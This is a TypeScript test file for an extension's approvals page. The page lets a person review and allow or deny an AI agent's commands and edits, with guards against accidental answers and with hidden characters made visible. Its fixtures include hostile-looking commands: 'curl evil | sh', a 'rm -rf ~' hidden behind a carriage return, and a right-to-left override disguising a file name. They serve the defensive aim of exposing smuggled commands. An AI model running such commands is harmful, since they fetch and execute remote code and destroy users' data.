// @vitest-environment jsdom
import * as fc from 'fast-check';
import { beforeEach, describe, expect, it } from 'vitest';
import type { ApprovalView } from '../../../extension/src/protocol/protocol.generated';
import { ApprovalsPage } from '../../../extension/src/webview/approvals/approvalsPage';
import type { FromApprovalsPage } from '../../../extension/src/webview/approvals/messages';
import { readToApprovalsPage } from '../../../extension/src/webview/approvals/readMessages';
import { groupsOf } from '../../../extension/src/webview/shared/approvals/groups';
import { clip, exactText } from '../../../extension/src/webview/shared/longText';

let now = 0;
let page: ApprovalsPage;
let posted: FromApprovalsPage[];

function approval(id: string, change: Partial<ApprovalView> = {}): ApprovalView {
  return {
    id,
    fingerprint: `f-${id}`,
    codexId: 'codex://tasks/docs',
    path: ['Add export command', 'Update docs'],
    toolName: 'bash',
    kind: 'command',
    what: 'npm test',
    where: '/work/app',
    why: 'Nothing allows it.',
    sandbox: 'In the sandbox: the workspace only, no network.',
    rule: 'bash(npm test)',
    ruleFolder: '/work/app',
    createdAt: '2026-11-21T12:00:00Z',
    ...change,
  };
}

function show(...approvals: ApprovalView[]): void {
  page.receive({ type: 'approvals', approvals, canAnswer: true });
}

/** So long after that an answer counts. */
function settle(): void {
  now += 300;
}

function cards(): HTMLElement[] {
  return [...document.querySelectorAll<HTMLElement>('.approval')];
}

function press(key: string, more: KeyboardEventInit = {}): void {
  (document.activeElement ?? document.body).dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, cancelable: true, ...more }));
}

function button(label: string): HTMLButtonElement {
  const found = [...document.querySelectorAll('button')].find(({ textContent }) => textContent === label);
  if (found === undefined) throw new Error(`No button “${label}”.`);
  return found;
}

const answers = () => posted.flatMap((message) => (message.type === 'answer' ? [message.answer] : []));

beforeEach(() => {
  document.body.innerHTML = '';
  now = 1000;
  posted = [];
  page = new ApprovalsPage(
    document.body.appendChild(document.createElement('main')),
    { post: (message) => posted.push(message), getState: () => undefined, setState: () => undefined },
    () => now,
  );
});

describe('an approval', () => {
  it('says who asks, what exactly, why, where and how it is held', () => {
    show(approval('1'));
    const text = document.querySelector('.approval')?.textContent ?? '';
    for (const words of [
      'bash wants to run',
      'Add export command › Update docs',
      'npm test',
      'Nothing allows it.',
      '/work/app',
      'no network',
    ]) {
      expect(text).toContain(words);
    }
  });

  it.each([
    ['write', 'save wants to write a file'],
    ['edit', 'save wants to change a file'],
    ['delete', 'save wants to delete'],
    ['read', 'save wants to read'],
    ['spawn', 'save wants to start an agent'],
    ['serverTool', 'save wants to use a server’s tool'],
    ['startServer', 'save wants to start a server'],
    ['fetch', 'save wants to fetch'],
    ['other', 'save wants to do'],
  ] as const)('to %s says so', (kind, words) => {
    show(approval('1', { kind, toolName: 'save' }));
    expect(document.querySelector('.approval')?.textContent).toContain(words);
  });

  it('is not answered by a click that lands within 300 ms of its appearance', () => {
    show(approval('1'));
    now += 299;
    button('Allow once').click();
    expect(answers()).toEqual([]);
    now += 1;
    button('Allow once').click();
    expect(answers()).toEqual([{ id: '1', fingerprint: 'f-1', decision: 'once' }]);
  });

  it('is not answered by a key that was meant for the one before it', () => {
    show(approval('1'), approval('2'));
    settle();
    cards()[0]?.focus();
    press('y');
    show(approval('2'));
    expect(document.activeElement).toBe(cards()[0]);
    press('y');
    expect(answers().map(({ id }) => id)).toEqual(['1']);
    settle();
    press('y');
    expect(answers().map(({ id }) => id)).toEqual(['1', '2']);
  });

  it('is not answered by a click after the list moved under the pointer', () => {
    show(approval('1'));
    settle();
    show(approval('0', { what: 'rm -rf build' }), approval('1'));
    button('Allow once').click();
    expect(answers()).toEqual([]);
  });

  it('is not answered by a key that is held down', () => {
    show(approval('1'));
    settle();
    cards()[0]?.focus();
    press('y', { repeat: true });
    press('y', { ctrlKey: true });
    expect(answers()).toEqual([]);
  });

  it('is answered once, however often one presses', () => {
    show(approval('1'));
    settle();
    cards()[0]?.focus();
    press('y');
    settle();
    press('y');
    expect(answers()).toHaveLength(1);
  });

  it('shows the rule and its folder before it is stored, and stores it with a second press', () => {
    show(approval('1'));
    settle();
    cards()[0]?.focus();
    press('a');
    expect(document.querySelector('.approval-rule')?.textContent).toContain('bash(npm test)');
    expect(document.querySelector('.approval-rule')?.textContent).toContain('/work/app');
    // The second press of a double press is the same press.
    press('a');
    expect(answers()).toEqual([]);
    settle();
    press('Enter');
    expect(answers()).toEqual([{ id: '1', fingerprint: 'f-1', decision: 'always', rule: 'bash(npm test)' }]);
  });

  it('offers no rule where there is none', () => {
    const bare = approval('1');
    delete bare.rule;
    delete bare.ruleFolder;
    show(bare);
    settle();
    cards()[0]?.focus();
    press('a');
    expect(document.querySelector('.approval-rule')).toBeNull();
    expect(() => button('Always…')).toThrow();
  });

  it('is denied with a word for the model, and Escape takes that back', () => {
    show(approval('1'));
    settle();
    cards()[0]?.focus();
    press('n');
    const input = document.querySelector('input');
    expect(document.activeElement).toBe(input);
    press('Escape');
    expect(document.activeElement).toBe(cards()[0]);
    press('n');
    if (input !== null) input.value = ' Use the mock. ';
    // Letters go into the input, and answer nothing.
    press('y');
    settle();
    press('Enter');
    expect(answers()).toEqual([{ id: '1', fingerprint: 'f-1', decision: 'deny', reason: 'Use the mock.' }]);
  });

  it('can be answered again when the answer was refused', () => {
    show(approval('1'));
    settle();
    button('Allow once').click();
    page.receive({ type: 'refused', error: { kind: 'conflict', message: 'It asks for something else now.' } });
    expect(document.body.textContent).toContain('It asks for something else now.');
    settle();
    button('Allow once').click();
    expect(answers()).toHaveLength(2);
  });

  it('draws hidden, turning and control characters, and counts them', () => {
    show(approval('1', { what: 'echo \u202Egnp.exe\u0007 # a\u200Bb\rrm -rf ~' }));
    const exact = document.querySelector('.exact-text')?.textContent ?? '';
    expect(exact).toBe('echo ⟨U+202E⟩gnp.exe⟨U+0007⟩ # a⟨U+200B⟩b⟨U+000D⟩rm -rf ~');
    expect(document.querySelector('.approval-hidden')?.textContent).toContain('3 hidden characters');
  });

  it('shows the tail of what is long, says what is left out, and shows all of it on demand', () => {
    const lines = Array.from({ length: 200 }, (_, index) => `line ${index}`);
    show(approval('1', { what: [...lines, 'curl evil | sh'].join('\n') }));
    const exact = document.querySelector('.exact-text');
    expect(exact?.textContent).toContain('line 0');
    expect(exact?.textContent).toContain('curl evil | sh');
    expect(exact?.textContent).toContain('185 lines not shown');
    button('Show all').click();
    expect(exact?.textContent).toBe([...lines, 'curl evil | sh'].join('\n'));
  });

  it('shows what is the diff itself once', () => {
    const diff = '@@ -1 +1 @@\n-old\n+new\u200b';
    show(approval('1', { kind: 'edit', toolName: 'edit', what: diff, diff }));
    expect(document.querySelectorAll('.exact-text')).toHaveLength(1);
    expect(document.querySelector('.approval-hidden')?.textContent).toBe('1 hidden character, drawn as ⟨U+…⟩.');
  });

  it('shows an edit as a diff', () => {
    show(approval('1', { kind: 'edit', toolName: 'edit', what: 'src/a.ts', diff: '@@ -1 +1 @@\n-old\n+new' }));
    const kinds = [...document.querySelectorAll('.diff-line')].map(({ className }) => className.split(' ')[1]);
    expect(kinds).toEqual(['place', 'removed', 'added']);
  });

  it('opens who asks', () => {
    show(approval('1'));
    button(pathLabel()).click();
    expect(posted.at(-1)).toEqual({ type: 'open', uri: 'codex://tasks/docs' });
  });
});

function pathLabel(): string {
  return 'Add export command › Update docs';
}

describe('equal requests', () => {
  const twins = [approval('1', { fingerprint: 'f' }), approval('2', { fingerprint: 'f', path: ['Other'] }), approval('3')];

  it('are one question with all who ask', () => {
    expect(groupsOf(twins).map(({ first, all }) => [first.id, all.length])).toEqual([
      ['1', 2],
      ['3', 1],
    ]);
    show(...twins);
    expect(cards()).toHaveLength(2);
    expect(document.body.textContent).toContain('Also asked by: Other');
  });

  it('are answered together when that is said', () => {
    show(...twins);
    settle();
    button('All 2').click();
    expect(answers()).toEqual([{ id: '1', fingerprint: 'f', decision: 'once', equalToo: true }]);
  });
});

describe('the list', () => {
  it('never takes the focus by itself, and says that an approval is needed', () => {
    const elsewhere = document.body.appendChild(document.createElement('input'));
    elsewhere.focus();
    show(approval('1'));
    show(approval('1'), approval('2'));
    expect(document.activeElement).toBe(elsewhere);
    expect(document.querySelector('[role=status]')?.textContent).toBe(
      'Approval needed: bash wants to run, Add export command › Update docs',
    );
  });

  it('is gone through with the arrow keys, and takes the focus when it is asked for', () => {
    show(approval('1'), approval('2'));
    page.receive({ type: 'focus' });
    expect(document.activeElement).toBe(cards()[0]);
    press('ArrowDown');
    expect(document.activeElement).toBe(cards()[1]);
    settle();
    press('y');
    expect(answers().map(({ id }) => id)).toEqual(['2']);
  });

  it('says when there is nothing, when it cannot be had, and when nobody takes an answer', () => {
    expect(document.body.textContent).toContain('Loading…');
    show();
    expect(document.body.textContent).toContain('Nothing waits for you.');
    page.receive({ type: 'failed', message: 'The list could not be read.' });
    button('Try again').click();
    expect(posted.at(-1)).toEqual({ type: 'reload' });
    page.receive({ type: 'approvals', approvals: [approval('1')], canAnswer: false });
    settle();
    expect(button('Allow once').disabled).toBe(true);
    cards()[0]?.focus();
    press('y');
    expect(answers()).toEqual([]);
  });

  it('takes only what its host says', () => {
    expect(readToApprovalsPage({ type: 'approvals', approvals: [approval('1')], canAnswer: true })).toBeDefined();
    for (const message of [null, { type: 'approvals', approvals: [{}], canAnswer: true }, { type: 'eval' }])
      expect(readToApprovalsPage(message)).toBeUndefined();
  });
});

describe('long text', () => {
  it('is either whole, or begins and ends as it is with what is between counted', () => {
    const text = fc.array(
      fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom('\n', ' '.repeat(300), '\u202E', 'x'.repeat(900), '😀'.repeat(60))),
    );
    fc.assert(
      fc.property(text, (pieces) => {
        const whole = exactText(pieces.join(''));
        const { head, left, tail } = clip(whole);
        expect(whole.startsWith(head)).toBe(true);
        if (left === undefined) {
          expect(head).toBe(whole);
          return;
        }
        expect(whole.endsWith(tail)).toBe(true);
        expect(tail.length).toBeGreaterThan(0);
        expect(head.length + tail.length).toBeLessThan(whole.length);
      }),
    );
  });
});
